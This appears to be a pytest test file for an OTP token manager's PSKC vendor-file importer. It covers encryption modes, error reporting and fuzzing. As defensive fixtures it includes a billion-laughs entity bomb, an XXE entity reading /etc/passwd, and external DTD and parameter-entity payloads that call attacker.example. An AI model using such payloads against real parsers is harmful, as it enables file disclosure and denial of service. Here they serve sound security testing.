"""Vendor PSKC files of each protection kind, made with python-pskc, and hostile XML refused."""

from __future__ import annotations

import io
import subprocess
import sys
import time
from pathlib import Path

import pskc
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oathdesk.formats.problems import Code
from oathdesk.formats.pskc import HOTP_URN, TOTP_URN, parse_pskc
from tests.conftest import RunCli
from tests.formats.helpers import assert_no_secret, assert_well_formed

SEEDS = {"60234567": bytes(range(20)), "60234568": bytes(range(20, 40))}
PSK = bytes(range(16))
PASSWORD = "vendor passphrase"


def make_pskc(
    protection: str = "plain",
    *,
    algorithm: str | None = TOTP_URN,
    suite: str | None = None,
    seeds: dict[str, bytes] | None = None,
    serial: bool = True,
) -> bytes:
    container = pskc.PSKC()
    for number, (serial_no, secret) in enumerate((seeds or SEEDS).items()):
        key = container.add_key(
            id=serial_no,
            serial=serial_no if serial else None,
            secret=secret,
            algorithm=algorithm,
            manufacturer="Token2",
            model="C202",
        )
        key.time_interval = 30 if number == 0 else 60
        key.response_length = 6
        key.algorithm_suite = suite
        key.key_userid = f"user{serial_no[-1]}@Contoso.com"
    if protection == "pbkdf2":
        container.encryption.setup_pbkdf2(PASSWORD, iterations=1000)
    elif protection == "psk":
        container.encryption.setup_preshared_key(key=PSK)
    buffer = io.BytesIO()
    container.write(buffer)
    return buffer.getvalue()


def key_line(data: bytes, index: int) -> int:
    """The line of the index-th <pskc:Key ...> element, found independently of the parser."""
    lines = [n for n, text in enumerate(data.decode().splitlines(), 1) if "<pskc:Key " in text]
    return lines[index]


@pytest.mark.parametrize(
    ("protection", "secrets"),
    [("plain", {}), ("pbkdf2", {"password": PASSWORD}), ("psk", {"psk": PSK})],
)
def test_each_protection(protection: str, secrets: dict[str, object], tmp_path: Path) -> None:
    path = tmp_path / f"order-{protection}.pskcxml"
    path.write_bytes(make_pskc(protection))
    data = path.read_bytes()
    if protection != "plain":
        for seed in SEEDS.values():
            assert seed.hex() not in data.decode()
    result = parse_pskc(data, **secrets)  # type: ignore[arg-type]
    assert result.problems == []
    assert [(r.serial, r.secret) for r in result.records] == list(SEEDS.items())
    assert [r.upn for r in result.records] == ["user7@contoso.com", "user8@contoso.com"]
    assert [(r.period, r.digits, r.algorithm) for r in result.records] == [
        (30, 6, "sha1"),
        (60, 6, "sha1"),
    ]
    assert [(r.manufacturer, r.model) for r in result.records] == [("Token2", "C202")] * 2
    assert [r.line for r in result.records] == [key_line(data, 0), key_line(data, 1)]
    assert_no_secret([repr(result)], SEEDS.values())


@pytest.mark.parametrize(
    ("protection", "given", "fix"),
    [
        ("pbkdf2", {}, "--password-stdin"),
        ("psk", {}, "--psk-file"),
        ("pbkdf2", {"psk": PSK}, "--password-stdin"),
    ],
)
def test_a_protected_file_needs_its_password_or_key(
    protection: str, given: dict[str, object], fix: str
) -> None:
    result = parse_pskc(make_pskc(protection), **given)  # type: ignore[arg-type]
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.ENCRYPTED)]
    assert fix in result.problems[0].fix
    assert result.records == []


@pytest.mark.parametrize(
    ("protection", "wrong", "what"),
    [
        ("pbkdf2", {"password": "not it"}, "password"),
        ("psk", {"psk": bytes(16)}, "pre-shared key"),
    ],
)
def test_a_wrong_password_or_key_is_one_clear_problem(
    protection: str, wrong: dict[str, object], what: str
) -> None:
    result = parse_pskc(make_pskc(protection), **wrong)  # type: ignore[arg-type]
    assert result.records == []
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.WRONG_PASSWORD)]
    assert result.problems[0].message == f"the {what} does not open this file"
    assert_well_formed(result.problems)


def test_hotp_keys_are_refused_each_with_its_line() -> None:
    data = make_pskc(algorithm=HOTP_URN)
    result = parse_pskc(data)
    assert result.records == []
    assert [(p.line, p.column, p.code) for p in result.problems] == [
        (key_line(data, 0), "Algorithm", Code.NOT_TOTP),
        (key_line(data, 1), "Algorithm", Code.NOT_TOTP),
    ]
    assert "key 60234567 is HOTP" in result.problems[0].message


@pytest.mark.parametrize(
    ("suite", "algorithm"),
    [(None, "sha1"), ("HMAC-SHA1", "sha1"), ("HMAC-SHA256", "sha256"), ("SHA512", "sha512")],
)
def test_hash_suites(suite: str | None, algorithm: str) -> None:
    result = parse_pskc(make_pskc(suite=suite))
    assert {r.algorithm for r in result.records} == {algorithm}


def test_missing_parts_and_an_unknown_hash() -> None:
    no_serial = parse_pskc(make_pskc(serial=False))
    assert {(p.column, p.code) for p in no_serial.problems} == {("SerialNo", Code.SERIAL_EMPTY)}
    md5 = parse_pskc(make_pskc(suite="HMAC-MD5"))
    assert {(p.column, p.code) for p in md5.problems} == {("Suite", Code.HASH_UNSUPPORTED)}
    twice = parse_pskc(make_pskc(seeds={"1": bytes(20), "2": bytes(20)}))
    assert [(p.column, p.code) for p in twice.problems] == [("Secret", Code.SECRET_DUPLICATE)]
    no_algorithm = parse_pskc(make_pskc(algorithm=None))  # but a time interval: TOTP
    assert no_algorithm.problems == []
    assert_well_formed(no_serial.problems + md5.problems + twice.problems)


def test_a_key_without_a_secret() -> None:
    data = make_pskc().replace(b"<pskc:Secret>", b"<pskc:Nothing>")
    data = data.replace(b"</pskc:Secret>", b"</pskc:Nothing>")
    result = parse_pskc(data)
    assert {(p.column, p.code) for p in result.problems} == {("Secret", Code.SECRET_EMPTY)}


CONTAINER = b'<KeyContainer xmlns="urn:ietf:params:xml:ns:keyprov:pskc" Version="1.0">'
LAUGHS = b"".join(
    b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10 if n else b"lol") for n in range(10)
)
BOMB = b"<!DOCTYPE lolz [" + LAUGHS + b"]>" + CONTAINER + b"&lol9;</KeyContainer>"
XXE = (
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + CONTAINER
    + b"<KeyPackage><Key><UserId>&xxe;</UserId></Key></KeyPackage></KeyContainer>"
)
EXTERNAL_DTD = (
    b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">' + CONTAINER + b"</KeyContainer>"
)
PARAMETER_ENTITY = (
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    + CONTAINER
    + b"</KeyContainer>"
)


@pytest.mark.parametrize(
    "payload",
    [BOMB, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
)
def test_xml_bombs_and_external_entities_are_refused(payload: bytes) -> None:
    start = time.monotonic()
    result = parse_pskc(b'<?xml version="1.0"?>\n' + payload)
    assert time.monotonic() - start < 1  # nothing was expanded
    assert result.records == []
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.UNSAFE_XML)]
    assert "DTD or entities" in result.problems[0].message
    assert "root:" not in result.problems[0].render("x")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"not xml at all", Code.NOT_PSKC),
        (b"<html><body>hello</body></html>", Code.NOT_PSKC),
        (make_pskc()[:-40], Code.NOT_PSKC),
        (CONTAINER + b"</KeyContainer>", Code.NOT_PSKC),  # no keys
    ],
)
def test_files_that_are_not_usable_pskc(data: bytes, code: Code) -> None:
    result = parse_pskc(data)
    assert [(p.line, p.code) for p in result.problems] == [(0, code)]
    assert_well_formed(result.problems)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_give_records_or_problems(data: bytes) -> None:
    result = parse_pskc(data)
    assert result.records or result.problems
    assert_well_formed(result.problems)


VALID = make_pskc("pbkdf2")


@settings(max_examples=200, deadline=None)
@given(st.integers(0, len(VALID) - 1), st.integers(0, 255))
def test_a_damaged_vendor_file_never_breaks_the_reader(position: int, byte: int) -> None:
    damaged = VALID[:position] + bytes([byte]) + VALID[position + 1 :]
    result = parse_pskc(damaged, password=PASSWORD)
    assert result.records or result.problems
    assert_well_formed(result.problems)


def test_import_pskc_through_the_cli(
    env_vault: dict[str, str], cli: RunCli, tmp_path: Path
) -> None:
    source = tmp_path / "order-4711.pskcxml"
    source.write_bytes(make_pskc("pbkdf2"))
    done = cli("import", str(source), "--password-stdin", input=PASSWORD + "\n", env=env_vault)
    assert done.returncode == 0, done.stderr
    assert "imported 2 classic token(s) from order-4711.pskcxml (pskc)" in done.stdout
    listing = cli("token", "list", "--json", env=env_vault).stdout
    assert '"kind": "classic"' in listing
    assert "60234567" in listing


@pytest.fixture
def env_vault(tmp_path: Path, cli: RunCli) -> dict[str, str]:
    env = {"OATHDESK_VAULT": str(tmp_path / "v.sqlite3")}
    assert cli("init", env=env).returncode == 0
    return env


# python-pskc's own test files (tests/formats/data/python-pskc/README.md says where from).
PSKC_DATA = Path(__file__).parent / "data" / "python-pskc"
FIGURE6_PSK = bytes.fromhex("12345678901234567890123456789012")


def pskc_file(name: str) -> bytes:
    return (PSKC_DATA / f"{name}.pskcxml").read_bytes()


@pytest.mark.parametrize("given", [{}, {"psk": FIGURE6_PSK}, {"password": "qwerty"}])
def test_rsa_key_transport_is_refused_as_unsupported_not_as_a_missing_key(
    given: dict[str, object],
) -> None:
    result = parse_pskc(pskc_file("figure8"), **given)  # type: ignore[arg-type]
    assert result.records == []
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.ENCRYPTION_UNSUPPORTED)]
    problem = result.problems[0]
    assert "RSA" in problem.message
    assert "pre-shared key" not in problem.message
    assert "pre-shared key or a password" in problem.fix
    assert "decrypt" in problem.fix
    assert_well_formed(result.problems)


def test_the_right_key_opens_the_rfc_files() -> None:
    # The oracle for the tests below: the key and password are right, the files are HOTP.
    for name, secrets in [("figure6", {"psk": FIGURE6_PSK}), ("figure7", {"password": "qwerty"})]:
        result = parse_pskc(pskc_file(name), **secrets)  # type: ignore[arg-type]
        assert [p.code for p in result.problems] == [Code.NOT_TOTP], name


def test_a_file_whose_mac_fails_is_altered_not_a_wrong_key() -> None:
    result = parse_pskc(pskc_file("mac-value"), psk=FIGURE6_PSK)
    assert result.records == []
    assert [(p.line, p.code) for p in result.problems] == [(30, Code.MAC_MISMATCH)]
    problem = result.problems[0]
    assert "altered or corrupted" in problem.message
    assert "does not open" not in problem.message
    assert "new copy" in problem.fix
    assert_well_formed(result.problems)


@pytest.mark.parametrize(
    ("name", "named"),
    [
        ("unknown-encryption", "http://www.w3.org/2001/04/xmlenc#unknown"),
        ("mac-algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-zha9"),
    ],
)
@pytest.mark.parametrize("given", [{}, {"psk": FIGURE6_PSK}])
def test_an_unknown_algorithm_is_named(name: str, named: str, given: dict[str, object]) -> None:
    result = parse_pskc(pskc_file(name), **given)  # type: ignore[arg-type]
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.ENCRYPTION_UNSUPPORTED)]
    assert named in result.problems[0].message
    assert "does not open" not in result.problems[0].message
    assert_well_formed(result.problems)


def test_an_encryption_without_an_algorithm_says_so() -> None:
    result = parse_pskc(pskc_file("missing-encryption"), psk=FIGURE6_PSK)
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.ENCRYPTION_UNSUPPORTED)]
    assert "does not say with which algorithm" in result.problems[0].message


@pytest.mark.parametrize(
    ("name", "line", "column", "what"),
    [
        ("not-integer", 11, "NumberOfTransactions", "a whole number"),
        ("not-integer2", 11, "MinLength", "a whole number"),
        ("not-boolean", 11, "CheckDigits", "true or false"),
    ],
)
def test_a_bad_value_is_named_with_its_element_and_line(
    name: str, line: int, column: str, what: str
) -> None:
    result = parse_pskc(pskc_file(name))
    assert [(p.line, p.column, p.code) for p in result.problems] == [
        (line, column, Code.VALUE_INVALID)
    ]
    assert what in result.problems[0].message
    assert "not a PSKC" not in result.problems[0].message
    assert_well_formed(result.problems)


def test_bad_values_elsewhere_are_named_too() -> None:
    data = make_pskc()
    cases = {
        b"<pskc:PlainValue>30<": b"<pskc:PlainValue>3!0<",  # a TimeInterval
        b'Length="6"': b'Length="six"',
        b"<pskc:PlainValue>AAEC": b"<pskc:PlainValue>AC",  # a Secret, cut short
    }
    for old, new in cases.items():
        assert old in data, old
        result = parse_pskc(data.replace(old, new, 1))
        assert [p.code for p in result.problems] == [Code.VALUE_INVALID], new
        assert result.problems[0].line > 1
        assert_no_secret([repr(result)], SEEDS.values())


def test_another_pskc_version_is_named() -> None:
    result = parse_pskc(pskc_file("wrongversion"))
    assert [(p.line, p.code) for p in result.problems] == [(2, Code.NOT_PSKC)]
    assert "version 1.2" in result.problems[0].message
    assert "1.0" in result.problems[0].fix


def test_an_incomplete_pbkdf2_setup_is_not_a_wrong_password() -> None:
    result = parse_pskc(pskc_file("incomplete-derivation"), password="qwerty")
    assert [(p.line, p.code) for p in result.problems] == [(0, Code.PROTECTION_INVALID)]
    assert "PBKDF2" in result.problems[0].message
    assert "new copy" in result.problems[0].fix


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"<IterationCount>1000<", b"<IterationCount>1000000000000<"),
        (b"<KeyLength>16<", b"<KeyLength>1000000000<"),
    ],
)
def test_hostile_pbkdf2_parameters_are_refused_before_deriving(
    old: bytes, new: bytes, tmp_path: Path
) -> None:
    data = pskc_file("figure7")
    assert old in data
    path = tmp_path / "hostile.pskcxml"
    path.write_bytes(data.replace(old, new))
    # In a process of its own: a derivation that runs for hours must fail the test, not hang it.
    program = (
        "import sys; from pathlib import Path; from oathdesk.formats.pskc import parse_pskc; "
        "r = parse_pskc(Path(sys.argv[1]).read_bytes(), password='qwerty'); "
        "print(*[f'{p.line} {p.code}' for p in r.problems], sep='|')"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(path)], capture_output=True, text=True, timeout=20
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"0 {Code.PROTECTION_INVALID}"
